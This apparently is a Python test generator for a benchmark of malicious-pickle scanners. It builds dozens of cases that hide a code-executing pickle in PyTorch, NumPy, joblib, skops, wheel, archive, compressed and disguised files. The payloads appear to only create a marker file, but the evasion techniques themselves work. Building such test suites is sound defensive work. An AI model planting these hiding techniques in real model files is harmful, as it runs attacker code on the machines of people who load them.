"""A plain malicious pickle within the containers that model libraries write, and within odd ones.

Sources: torch/serialization.py (zip, legacy, tar), joblib/numpy_pickle.py and numpy_pickle_utils.py, numpy/lib/format.py,
the zip application note, POSIX tar, dill and cloudpickle.
"""

import bz2
import gzip
import lzma
import struct
import zipfile
import zlib
from collections.abc import Iterator

from bench.attack_case import EVIL, RUN, Attack, Name, call, dump, put, tarred, text, zipped

Made = Iterator[tuple[str, bytes, str]]
GOOD = b"\x80\x02}."
MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."  # torch's number for legacy files
ORDINARY = {"m/data.pkl": GOOD, "m/byteorder": b"little", "m/version": b"3\n"}


def attacks() -> Iterator[Attack]:
    for family, made in (
        ("containers: PyTorch", _torch()),
        ("containers: NumPy and joblib", _numpy()),
        ("containers: archives", [*_archives(), *_compressed()]),
    ):
        for number, (name, data, why) in enumerate(made):
            yield Attack(family, f"{number:03}-{name}", data, why)


def _torch() -> Made:
    yield "plain.pt", zipped({**ORDINARY, "m/data.pkl": EVIL}), "os.system in data.pkl"
    yield "renamed.bin", zipped({**ORDINARY, "m/data.pkl": EVIL}), "the same, named .bin"
    yield (
        "deflated.pt",
        zipped({**ORDINARY, "m/data.pkl": EVIL}, method=zipfile.ZIP_DEFLATED),
        "data.pkl is compressed",
    )
    yield "constants.pt", zipped({**ORDINARY, "m/constants.pkl": EVIL}), "constants.pkl of a TorchScript file"
    yield "second.pt", zipped({**ORDINARY, "m/other.pkl": EVIL}), "a second pickle in the archive"
    yield "deep.pt", zipped({**ORDINARY, "m/extra/x/data.pkl": EVIL}), "a pickle deep in the archive"
    yield "no-suffix.pt", zipped({**ORDINARY, "m/notes.txt": EVIL}), "a pickle with a text's name"
    yield "storage.pt", zipped({**ORDINARY, "m/data/0": EVIL}), "a pickle in place of a tensor nothing names"
    script = b"def forward(self, x):\n  return ops.marker.run(x)\n"
    yield (
        "script.pt",
        zipped({**ORDINARY, "m/code/__torch__.py": script}),
        "TorchScript that calls an operator from elsewhere",
    )
    package = {
        **ORDINARY,
        "m/.data/extern_modules": b"os\n",
        "m/x.py": b"import os\nos.system('touch marker')\n",
    }
    yield "package.pt", zipped(package), "a torch.package with code that runs on import"
    legacy = MAGIC + b"\x80\x02M\xe9\x03." + dump({"little_endian": True}, protocol=2)
    yield "legacy.pth", legacy + EVIL + GOOD, "a legacy file: the fourth pickle"
    yield "legacy-keys.pth", legacy + GOOD + EVIL, "a legacy file: the fifth pickle, its list of keys"
    yield "legacy-system.pth", MAGIC + b"\x80\x02M\xe9\x03." + EVIL, "a legacy file: its system information"
    yield "legacy-magic.pth", EVIL + GOOD, "a legacy file: its first pickle"
    yield "legacy-version.pth", MAGIC + EVIL, "a legacy file: its version"
    oldest = {"sys_info": GOOD, "pickle": EVIL, "storages": GOOD, "tensors": GOOD}
    yield "oldest.pt", tarred(oldest), "a file of torch 0.1: a tar whose pickle is malicious"
    yield (
        "oldest-storages.pt",
        tarred({**oldest, "pickle": GOOD, "storages": EVIL}),
        "the same in its storages",
    )
    yield "oldest-tensors.pt", tarred({**oldest, "pickle": GOOD, "tensors": EVIL}), "the same in its tensors"
    loaded = dump(
        call("torch.storage", "_load_from_bytes", MAGIC + b"\x80\x02M\xe9\x03." + GOOD + EVIL), protocol=2
    )
    yield "bytes.pkl", loaded, "a legacy torch file as a constant of a pickle"
    mobile = {"m/bytecode.pkl": EVIL, "m/data.pkl": GOOD, "m/version": b"3\n"}
    yield "mobile.ptl", zipped(mobile), "bytecode.pkl of a mobile file"
    exported = {"m/models/model.json": b"{}", "m/data/weights/w.pt": zipped({**ORDINARY, "m/data.pkl": EVIL})}
    yield "exported.pt2", zipped(exported), "weights of an exported program are a torch file of their own"
    yield (
        "compiled.pt2",
        zipped({"m/data/aotinductor/model/x.so": b"\x7fELF\x02\x01\x01" + bytes(57)}),
        "native code",
    )
    mar = {"MAR-INF/MANIFEST.json": b'{"model":{"handler":"handler.py","serializedFile":"m.pt"}}'}
    mar |= {
        "handler.py": b"import os\nos.system('touch marker')\n",
        "m.pt": zipped({**ORDINARY, "m/data.pkl": EVIL}),
    }
    yield "served.mar", zipped(mar), "a TorchServe archive with handler and model"
    nemo = {
        "model_config.yaml": b"target: os.getcwd\n",
        "model_weights.ckpt": zipped({**ORDINARY, "m/data.pkl": EVIL}),
    }
    yield "model.nemo", tarred(nemo), "a NeMo archive whose weights are malicious"


def _npy(header: str, body: bytes, *, version: int = 1) -> bytes:
    raw = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    size = struct.pack("<H", len(raw)) if version == 1 else struct.pack("<I", len(raw))
    return b"\x93NUMPY" + bytes([version, 0]) + size + raw + body


def _numpy() -> Made:
    objects = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    yield "objects.npy", _npy(objects, EVIL), "an array of objects is a pickle"
    yield "objects-2.npy", _npy(objects, EVIL, version=2), "the same in version 2"
    yield "objects-3.npy", _npy(objects, EVIL, version=3), "the same in version 3"
    fields = "{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    yield "fields.npy", _npy(fields, EVIL), "a field of objects makes the array a pickle"
    yield "renamed.bin", _npy(objects, EVIL), "an array by another name"
    yield (
        "behind.npy",
        _npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4) + EVIL),
        "behind the data",
    )
    yield (
        "header.npy",
        _npy("{'descr': __import__('os').system('touch marker'), 'shape': ()}", b""),
        "a call in the header",
    )
    yield (
        "deep.npy",
        _npy("(" * 5000 + ")" * 5000, b"", version=2),
        "a header that overflows the parser's stack",
    )
    archive = {"a.npy": _npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", bytes(4))}
    yield (
        "objects.npz",
        zipped({**archive, "b.npy": _npy(objects, EVIL)}),
        "an array of objects in an archive",
    )
    yield "pickle.npz", zipped({**archive, "b": EVIL}), "a bare pickle in an archive of arrays"
    yield "raw.npy", EVIL, "a pickle that calls itself an array: numpy.load falls back to pickle"
    yield "plain.joblib", EVIL, "a plain pickle"
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass") + b"cnumpy\nndarray\n"
    wrapper += text("shape") + put((4,)) + text("order") + text("C") + text("dtype")
    kind = (
        b"cnumpy\ndtype\n"
        + put(("f4", False, True))
        + b"R"
        + put((3, "<", None, None, None, -1, -1, 0))
        + b"b"
    )
    state = wrapper + kind + text("allow_mmap") + b"\x88ub"
    after = put(RUN)
    yield (
        "after-array.joblib",
        b"\x80\x03](" + state + bytes(16) + after + b"e.",
        "the call stands behind a raw array",
    )
    padded = text("numpy_array_alignment_bytes") + b"K\x10ub"
    aligned = state[:-2] + padded + b"\x04" + b"\xff" * 4
    yield (
        "after-aligned.joblib",
        b"\x80\x03](" + aligned + bytes(16) + after + b"e.",
        "the same with an aligned array",
    )
    decoy = EVIL[2:14]
    yield (
        "before-array.joblib",
        b"\x80\x03](" + after + state + decoy.ljust(16, b"\0") + b"e.",
        "before a raw array",
    )
    boxed = state.replace(text("subclass") + b"cnumpy\nndarray\n", text("subclass") + b"csubprocess\nPopen\n")
    yield "subclass.joblib", b"\x80\x03" + boxed + bytes(16) + b".", "the class of the array is a process"
    pickled = (
        b"cnumpy\ndtype\n"
        + put(("O8", False, True))
        + b"R"
        + put((3, "|", None, None, None, -1, -1, 63))
        + b"b"
    )
    objects_state = wrapper + pickled + text("allow_mmap") + b"\x89ub"
    yield (
        "object-array.joblib",
        b"\x80\x03" + objects_state + EVIL + b".",
        "an array of objects: a pickle within the pickle",
    )
    old = b"cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(" + text("filename") + text("../../marker") + b"ub"
    yield "old-wrapper.joblib", b"\x80\x03" + old + b".", "the old wrapper loads any file by its path"
    zfile = zlib.compress(EVIL)
    yield (
        "old-compressed.joblib",
        b"ZF" + hex(len(EVIL)).ljust(19).encode() + zfile,
        "joblib's old compressed form",
    )
    for name, packed in (
        ("zlib", zlib.compress),
        ("gzip", gzip.compress),
        ("bz2", bz2.compress),
        ("xz", lzma.compress),
    ):
        raw = packed(EVIL, mtime=0) if name == "gzip" else packed(EVIL)  # type: ignore[operator]  # gzip alone has a time
        yield f"{name}.joblib", raw, f"a pickle compressed with {name}"
    raw_lzma = lzma.compress(EVIL, format=lzma.FORMAT_ALONE)
    yield "lzma.joblib", raw_lzma, "a pickle in the old LZMA form"
    skops = {
        "schema.json": b'{"__class__":"system","__module__":"os","__loader__":"FunctionNode","__id__":1,"content":{"function":"system","module_path":"os"},"protocol":2}'
    }
    yield "model.skops", zipped(skops), "a skops file that names os.system"
    method = {
        "schema.json": b'{"__class__":"method","__module__":"builtins","__loader__":"OperatorFuncNode","__id__":1,"content":{"module_path":"operator","attrs":{"content":["system"]}},"protocol":2}'
    }
    yield "operator.skops", zipped(method), "a skops file with an operator function (CVE-2025-54413)"


def _archives() -> Made:
    yield "model.zip", zipped({"model.pkl": EVIL}), "a pickle in a zip file"
    yield "bare.zip", zipped({"weights": EVIL}), "a pickle without a suffix in a zip file"
    yield "model.tar", tarred({"model.pkl": EVIL}), "a pickle in a tar file"
    for mode, suffix in (("w:gz", "tar.gz"), ("w:bz2", "tar.bz2"), ("w:xz", "tar.xz")):
        plain = tarred({"model.pkl": EVIL})
        packed = {
            "w:gz": lambda raw: gzip.compress(raw, mtime=0),
            "w:bz2": bz2.compress,
            "w:xz": lzma.compress,
        }[mode]
        yield f"model.{suffix}", packed(plain), f"a pickle in a {suffix} file"
    yield (
        "nested.zip",
        zipped({"a.zip": zipped({"b.zip": zipped({"model.pkl": EVIL})})}),
        "three zip files deep",
    )
    yield "zip-in-tar.tar", tarred({"m.zip": zipped({"model.pkl": EVIL})}), "a zip file in a tar file"
    yield "tar-in-zip.zip", zipped({"m.tar": tarred({"model.pkl": EVIL})}), "a tar file in a zip file"
    yield (
        "torch-in-zip.zip",
        zipped({"m.pt": zipped({**ORDINARY, "m/data.pkl": EVIL})}),
        "a torch file in a zip file",
    )
    wheel = {"m-1.dist-info/METADATA": b"Name: m\n", "m.pth": b"import os; os.system('touch marker')\n"}
    yield "m-1-py3-none-any.whl", zipped(wheel), "a wheel with a .pth that runs at start (LiteLLM, 2026)"
    polyglot = EVIL + zipped({"readme.txt": b"harmless"})
    yield "pickle-then-zip.pkl", polyglot, "a pickle in front of a zip file"
    yield "pickle-then-zip.zip", polyglot, "the same by a zip file's name"
    yield "zip-then-pickle.zip", zipped({"readme.txt": b"harmless"}) + EVIL, "a pickle behind a zip file"
    head = bytearray(tarred({"readme.txt": b"harmless"}))
    yield "tar-then-pickle.tar", bytes(head) + EVIL, "a pickle behind a tar file's end"
    yield (
        "zip-in-safetensors.safetensors",
        _safetensors() + zipped({"model.pkl": EVIL}),
        "a zip file behind tensors",
    )
    yield "png.png", b"\x89PNG\r\n\x1a\n" + EVIL, "a pickle behind an image's signature"
    yield "image.jpg", EVIL, "a pickle by an image's name"
    yield "readme.md", EVIL, "a pickle by a text's name"
    yield "model.safetensors", EVIL, "a pickle by the name of safetensors"
    yield "model.gguf", EVIL, "a pickle by the name of GGUF"
    yield "model.onnx", EVIL, "a pickle by the name of ONNX"
    yield "model.h5", EVIL, "a pickle by the name of HDF5"
    yield (
        "zip.safetensors",
        zipped({**ORDINARY, "m/data.pkl": EVIL}),
        "a torch file by the name of safetensors",
    )
    yield (
        "sevenzip.7z",
        b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24) + EVIL,
        "a pickle behind a 7z head (nullifAI)",
    )
    yield "rar.rar", b"Rar!\x1a\x07\x01\x00" + bytes(16) + EVIL, "a pickle behind a RAR head"


def _safetensors() -> bytes:
    head = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(head)) + head + bytes(4)


def _compressed() -> Made:
    yield "model.pkl.gz", gzip.compress(EVIL, mtime=0), "gzip"
    yield "model.pkl.bz2", bz2.compress(EVIL), "bzip2"
    yield "model.pkl.xz", lzma.compress(EVIL), "xz"
    yield "model.pkl.z", zlib.compress(EVIL), "zlib"
    yield "twice.pkl.gz", gzip.compress(gzip.compress(EVIL, mtime=0), mtime=0), "gzip in gzip"
    yield "members.gz", gzip.compress(GOOD, mtime=0) + gzip.compress(EVIL, mtime=0), "a second gzip member"
    yield "mixed.gz", gzip.compress(bz2.compress(EVIL), mtime=0), "bzip2 in gzip"
    yield (
        "cut.pkl.gz",
        gzip.compress(EVIL + b"\0" * 5000, mtime=0)[:-9],
        "gzip whose end is cut: the pickle came before",
    )
    yield "hidden-name.bin", gzip.compress(EVIL, mtime=0), "gzip by another name"
    block = b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(EVIL) | 0x8000_0000) + EVIL + bytes(4)
    yield "model.pkl.lz4", block, "an LZ4 frame with a stored block"
    raw = b"\x28\xb5\x2f\xfd\x20" + bytes([len(EVIL)]) + struct.pack("<I", len(EVIL) << 3 | 1)[:3] + EVIL
    yield "model.pkl.zst", raw, "a Zstandard frame with a raw block"
    yield "in-bytes.pkl", dump({"blob": EVIL}), "a pickle in a constant that nothing loads yet"
    yield (
        "in-zlib-bytes.pkl",
        dump(call("pickle", "loads", call("zlib", "decompress", zlib.compress(EVIL)))),
        "unpacked, then loaded",
    )
    yield (
        "in-base64.pkl",
        dump(call("pickle", "loads", call("base64", "b64decode", b"Y29zCnN5c3RlbQ=="))),
        "decoded, then loaded",
    )
    function = call("dill._dill", "_create_function", call("dill._dill", "_create_code", b"x"), {}, "f")
    yield "function.dill", dump(function), "a function by dill"
    made = call("cloudpickle.cloudpickle", "_make_function", call("types", "CodeType", 0), {}, "f", (), ())
    yield "function.cloudpickle", dump(made), "a function by cloudpickle"
    empty = call(
        "cloudpickle.cloudpickle", "_make_skeleton_class", Name("builtins", "type"), "T", (), {}, "id", None
    )
    yield (
        "class.cloudpickle",
        dump(call("cloudpickle.cloudpickle", "_class_setstate", empty, ({"__init__": RUN}, {}))),
        "a class by cloudpickle",
    )
